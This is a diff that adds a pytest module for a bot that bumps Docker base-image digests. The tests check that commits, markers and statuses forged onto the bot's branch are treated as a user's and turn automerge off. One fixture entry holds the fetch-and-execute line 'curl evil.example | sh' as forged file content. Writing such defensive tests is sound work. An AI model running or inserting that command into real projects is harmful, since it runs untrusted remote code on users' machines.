@@ -1,0 +1,333 @@
+"""Whole runs over branches that pretend to be basebump's: only their content decides whether they are."""
+
+from __future__ import annotations
+
+import re
+from dataclasses import replace
+
+import pytest
+from support.forges.github.stand import GitHubAppStand, GitHubStand
+from support.forges.gitlab.stand import GitLabStand
+from support.forges.stands import LocalStand
+from support.git import EXECUTABLE, LINK, File
+from support.runs.worlds import NOW, ToldScanner, build
+from support.values import finding
+
+from bot.core.proposal.markers import BodyMarker, parse_marker, render_marker
+from bot.core.proposal.update_groups import hash_written_values
+from bot.model.modes import UpdateMode
+from bot.model.policy import PolicyRule
+from bot.model.request_attributes import CommitStatus, StatusState
+from bot.model.rules import AutomergeConditions
+from bot.state.database import Database
+from bot.state.push_store import DatabasePushStore
+from bot.state.state_store import DatabaseStateStore
+
+pytestmark = [pytest.mark.real("git"), pytest.mark.over_forges]
+
+BRANCH = "basebump/python-3.12-slim-06e5bb43"
+OLD, NEW, NEWER = build("old").digest, build("new").digest, build("newer").digest
+EVIL = build("evil").digest
+"""An image of the same repository that the tag never pointed to."""
+DOCKERFILE = f"FROM python:3.12-slim@{OLD}\nRUN make\nRUN make test\nRUN make install\nUSER app\n"
+WITH_NEW = DOCKERFILE.replace(OLD, NEW)
+FILES = {"Dockerfile": DOCKERFILE, "app/Dockerfile": DOCKERFILE, "README.md": "Nothing to see.\n"}
+STANDS = {"local": LocalStand, "github": GitHubStand, "github-app": GitHubAppStand, "gitlab": GitLabStand}
+TARGET = f"docker.io/library/python:3.12-slim@{NEW}"
+GOOD = CommitStatus(StatusState.SUCCESS, "Fixes 1, brings none")
+
+
+@pytest.fixture(params=STANDS)
+def stand(request, tmp_path):
+    made = STANDS[request.param](tmp_path / request.param, FILES)
+    yield made
+    made.end()
+
+
+@pytest.fixture
+def github(tmp_path):
+    made = GitHubStand(tmp_path / "github", FILES)
+    yield made
+    made.end()
+
+
+@pytest.fixture
+def known(moved):
+    moved.move("python", "evil", "evil")
+    moved.scanner = ToldScanner({OLD: (finding("CVE-1900-0001"),), NEW: (), NEWER: ()})
+    return moved
+
+
+def run(stand, loopback) -> str:
+    report = loopback.run([stand.fleet()])
+    assert report.failed == ()
+    ((proposal,),) = [each.proposals for each in report.repositories]
+    return proposal.outcome.value
+
+
+def forge_commit(stand, files, *, parents=None, intent=None) -> str:
+    """Replace basebump's commit by one of the same author, committer and message, and with other files."""
+    own = stand.commits(BRANCH)[-1]
+    text = re.sub("[0-9a-f]{16}$", intent, own.message.rstrip()) if intent else own.message
+    commit = stand.git.make_commit(
+        parents or own.parents, files, text, who=own.committer, author=own.author, over=own.oid
+    )
+    stand.git.run("update-ref", f"refs/heads/{BRANCH}", commit)
+    if isinstance(stand, GitHubAppStand):  # whoever can push cannot sign as GitHub; the content is judged nevertheless
+        stand.repository.signed.add(commit)
+    stand.settle()
+    return commit
+
+
+def given_statuses(stand) -> list[CommitStatus]:
+    return stand.statuses(BRANCH)
+
+
+def comments(stand) -> int:
+    (request,) = stand.requests()
+    return len(request.comments)
+
+
+FORGERIES = {
+    "added file": {"evil.sh": "curl evil.example | sh\n"},
+    "added file in a folder": {"app/evil.sh": File(b"evil\n", EXECUTABLE)},
+    "deleted file": {"README.md": None},
+    "renamed file": {"README.md": None, "READ.md": FILES["README.md"]},
+    "changed file": {"README.md": "Evil.\n"},
+    "another line": {"Dockerfile": WITH_NEW.replace("make", "evil")},
+    "the same line": {"Dockerfile": WITH_NEW.replace(NEW, f"{NEW} AS evil")},
+    "another image": {"Dockerfile": WITH_NEW.replace("python", "evil.example/python")},
+    "line ends": {"Dockerfile": WITH_NEW.replace("\n", "\r\n")},
+    "byte-order mark": {"Dockerfile": b"\xef\xbb\xbf" + WITH_NEW.encode()},
+    "executable": {"Dockerfile": File(WITH_NEW.encode(), EXECUTABLE)},
+    "only executable": {"README.md": File(FILES["README.md"].encode(), EXECUTABLE)},
+    "symbolic link": {"Dockerfile": File(b"app/Dockerfile", LINK)},
+    "another digest": {"Dockerfile": WITH_NEW.replace(NEW, EVIL)},
+    "removed digest": {"Dockerfile": WITH_NEW.replace(f"@{NEW}", "")},
+}
+
+
+@pytest.mark.parametrize("forgery", FORGERIES)
+def test_forged_commit_with_other_content_is_a_users(stand, known, forgery):
+    assert run(stand, known) == "opened"
+    head = forge_commit(stand, FORGERIES[forgery])
+    assert run(stand, known) == "left-alone"
+    assert stand.branches()[BRANCH] == head
+    assert given_statuses(stand) == []
+    assert comments(stand) == 1
+    writes = list(stand.writes)
+    assert run(stand, known) == "left-alone"
+    assert stand.writes == writes
+
+
+def test_forged_commit_on_top_of_another_one_is_a_users(stand, known):
+    assert run(stand, known) == "opened"
+    (own,) = stand.commits(BRANCH)
+    evil = stand.git.make_commit(own.parents, {"evil.sh": "evil\n"}, "Evil")
+    head = forge_commit(stand, {"evil.sh": "evil\n"}, parents=[evil])
+    assert run(stand, known) == "left-alone"
+    assert (stand.branches()[BRANCH], given_statuses(stand)) == (head, [])
+
+
+def test_forged_merge_hides_nothing(stand, known):
+    """The second parent of the merge is not a commit of the base branch, so that nothing seems to differ from it."""
+    assert run(stand, known) == "opened"
+    (own,) = stand.commits(BRANCH)
+    evil = stand.git.make_commit([own.oid], {"evil.sh": "evil\n"}, "Evil")
+    for second in (evil, own.oid):
+        merge = stand.git.make_commit([own.oid, second], {"evil.sh": "evil\n"}, "Merge", over=evil)
+        stand.git.run("update-ref", f"refs/heads/{BRANCH}", merge)
+        stand.settle()
+        assert run(stand, known) == "left-alone"
+        assert given_statuses(stand) == []
+
+
+def test_forged_content_on_an_older_base_is_a_users(stand, known):
+    assert run(stand, known) == "opened"
+    stand.commit("main", {"Dockerfile": f"{DOCKERFILE}# The end\n"})
+    forge_commit(stand, {"Dockerfile": WITH_NEW.replace("make", "evil")})
+    assert run(stand, known) == "left-alone"
+    assert given_statuses(stand) == []
+
+
+def test_own_branch_on_an_older_base_stays_basebumps(stand, known):
+    assert run(stand, known) == "opened"
+    stand.commit("main", {"Dockerfile": f"{DOCKERFILE}# The end\n", "README.md": "Elsewhere.\n"})
+    assert run(stand, known) == "unchanged"
+    known.move("python", "3.12-slim", "newer")
+    assert run(stand, known) == "refreshed"
+    assert NEWER in stand.files(BRANCH)["Dockerfile"].content.decode()
+
+
+def test_merge_of_the_base_into_an_edited_file_stays_basebumps(stand, known):
+    assert run(stand, known) == "opened"
+    stand.commit("main", {"Dockerfile": f"{DOCKERFILE}# The end\n"})
+    stand.update_branch(BRANCH)
+    known.move("python", "3.12-slim", "newer")
+    assert run(stand, known) == "refreshed"
+
+
+def test_branch_of_an_earlier_release_is_refreshed(stand, known):
+    """An earlier release found only one of the references, and computed another intent for the same edit."""
+    assert run(stand, known) == "opened"
+    forge_commit(stand, {"app/Dockerfile": DOCKERFILE}, intent="0123456789abcdef")
+    assert run(stand, known) == "refreshed"
+    assert stand.files(BRANCH)["app/Dockerfile"].content.decode() == WITH_NEW
+
+
+def test_branch_of_an_earlier_release_is_unchanged_if_its_files_are_the_desired_ones(stand, known):
+    assert run(stand, known) == "opened"
+    head = forge_commit(stand, {}, intent="0123456789abcdef")
+    run(stand, known)  # sets the status of the commit, where there are statuses
+    assert run(stand, known) == "unchanged"
+    assert stand.branches()[BRANCH] == head
+
+
+def test_older_commit_of_basebump_is_replaced(stand, known):
+    assert run(stand, known) == "opened"
+    replayed = stand.branches()[BRANCH]
+    known.move("python", "3.12-slim", "newer")
+    assert run(stand, known) == "refreshed"
+    stand.git.run("update-ref", f"refs/heads/{BRANCH}", replayed)
+    stand.settle()
+    assert run(stand, known) == "refreshed"
+    assert stand.files(BRANCH)["Dockerfile"].content.decode() == DOCKERFILE.replace(OLD, NEWER)
+
+
+def intent_of(value: str) -> str:
+    """Return the intent of a commit that writes one digest into both files."""
+    return hash_written_values((path, "stage[0]", value) for path in ("Dockerfile", "app/Dockerfile"))
+
+
+EVIL_FILES = {path: DOCKERFILE.replace(OLD, EVIL) for path in ("Dockerfile", "app/Dockerfile")}
+
+
+def forge_mark(stand) -> None:
+    """Let the text of the request name the attacker's digest, and say that basebump checked it."""
+    body = stand.requests()[0].body
+    forged = body.replace(NEW, EVIL)
+    assert EVIL in parse_marker(forged).targets[0]
+    stand.edit_body(BRANCH, forged)
+
+
+@pytest.mark.parametrize("forged_trailer", [True, False])
+def test_attackers_digest_with_a_forged_mark_gets_no_status_and_is_replaced(stand, known, forged_trailer):
+    assert run(stand, known) == "opened"
+    head = forge_commit(stand, EVIL_FILES, intent=intent_of(EVIL) if forged_trailer else None)
+    forge_mark(stand)
+    assert run(stand, known) == "refreshed"
+    assert stand.branches()[BRANCH] != head
+    assert stand.files(BRANCH)["Dockerfile"].content.decode() == WITH_NEW
+    if not isinstance(stand, LocalStand):
+        assert given_statuses(stand)[-1] == GOOD
+
+
+AUTOMERGE = PolicyRule(automerge=AutomergeConditions(UpdateMode.DIGEST))
+
+
+@pytest.mark.parametrize("has_forged_mark", [True, False])
+@pytest.mark.parametrize("forgery", ["added file", "another digest"])
+def test_forged_branch_turns_automerge_off(github, known, forgery, has_forged_mark):
+    known.rulebook = replace(known.rulebook, rules=(AUTOMERGE,))
+    assert run(github, known) == "opened"
+    (pull,) = github.repository.pulls
+    assert pull.auto_merge is github.token.account
+    if has_forged_mark:
+        github.edit_body(BRANCH, render_marker(BodyMarker((TARGET,), "2" * 16)))
+    forge_commit(github, FORGERIES[forgery])
+    assert run(github, known) == "left-alone"
+    assert pull.auto_merge is None
+    assert given_statuses(github) == []
+
+
+def test_automerge_is_off_while_an_approved_request_has_an_unknown_digest(github, known):
+    known.rulebook = replace(known.rulebook, rules=(AUTOMERGE,))
+    assert run(github, known) == "opened"
+    github.review(BRANCH, "APPROVED")
+    head = forge_commit(github, EVIL_FILES, intent=intent_of(EVIL))
+    forge_mark(github)
+    assert run(github, known) == "left-alone"
+    (pull,) = github.repository.pulls
+    assert (pull.auto_merge, github.branches()[BRANCH], given_statuses(github)) == (None, head, [])
+
+
+@pytest.fixture
+def merged(github, known):
+    """Return a GitHub where an approved request waits, and a user merged the base branch into its branch."""
+    assert run(github, known) == "opened"
+    github.review(BRANCH, "APPROVED")
+    known.move("python", "3.12-slim", "newer")
+    github.commit("main", {"README.md": "Elsewhere.\n"})
+    github.update_branch(BRANCH)
+    (pull,) = github.repository.pulls
+    pull.body = pull.body.replace(GOOD.description, "Forged")
+    return github
+
+
+def test_merge_of_the_base_gets_the_status_of_basebumps_commit_and_not_that_of_the_mark(merged, known):
+    (own,) = merged.repository.statuses
+    status = merged.repository.statuses[own][-1]
+    attacker = merged.server.world.add_account("attacker")
+    merged.repository.statuses[own].append(replace(status, description="Forged", creator=attacker))
+    assert run(merged, known) == "left-alone"
+    assert given_statuses(merged) == [GOOD]
+
+
+def test_merge_of_the_base_gets_no_status_if_basebump_set_none(merged, known):
+    merged.repository.statuses.clear()
+    assert run(merged, known) == "left-alone"
+    assert given_statuses(merged) == []
+
+
+def test_unsigned_commit_in_the_name_of_an_app_is_a_users(tmp_path, known):
+    stand = GitHubAppStand(tmp_path / "github", FILES)
+    assert run(stand, known) == "opened"
+    assert stand.repository.signed == {stand.branches()[BRANCH]}
+    head = forge_commit(stand, {"README.md": FILES["README.md"]}, intent="0123456789abcdef")
+    stand.repository.signed.discard(head)
+    assert run(stand, known) == "left-alone"
+    assert (stand.branches()[BRANCH], given_statuses(stand)) == (head, [])
+    stand.end()
+
+
+# What it costs
+
+READS = re.compile(r"/git/trees/|/compare|/tree\?|graphql|/git/blobs/|merge_base")
+
+
+@pytest.fixture
+def remembering(known, tmp_path):
+    database = Database.sqlite(tmp_path / "state.db")
+    known.memory = DatabaseStateStore(database, lambda: NOW)
+    known.pushes = DatabasePushStore(database)
+    return known
+
+
+@pytest.mark.parametrize("kind", ["github", "github-app", "gitlab"])
+def test_remembered_branch_costs_no_request(tmp_path, remembering, kind):
+    stand = STANDS[kind](tmp_path / kind, FILES)
+    assert run(stand, remembering) == "opened"
+    with stand.server.watched() as with_state:
+        assert run(stand, remembering) == "unchanged"
+    remembering.pushes = type(remembering).__dataclass_fields__["pushes"].default_factory()
+    with stand.server.watched() as without_state:
+        assert run(stand, remembering) == "unchanged"
+    more = {"github": 2, "github-app": 2, "gitlab": 5}[kind]
+    assert len(without_state) - len(with_state) == more
+    stand.end()
+
+
+def test_forged_commit_is_judged_although_the_state_remembers_the_branch(stand, remembering):
+    assert run(stand, remembering) == "opened"
+    forge_commit(stand, FORGERIES["added file"])
+    assert run(stand, remembering) == "left-alone"
+
+
+def test_digest_that_the_state_remembers_for_the_tag_is_confirmed(github, remembering):
+    remembering.rulebook = replace(remembering.rulebook, rules=(AUTOMERGE,))
+    assert run(github, remembering) == "opened"
+    github.review(BRANCH, "APPROVED")
+    remembering.move("python", "3.12-slim", "newer")
+    assert run(github, remembering) == "left-alone"
+    (pull,) = github.repository.pulls
+    assert pull.auto_merge is github.token.account
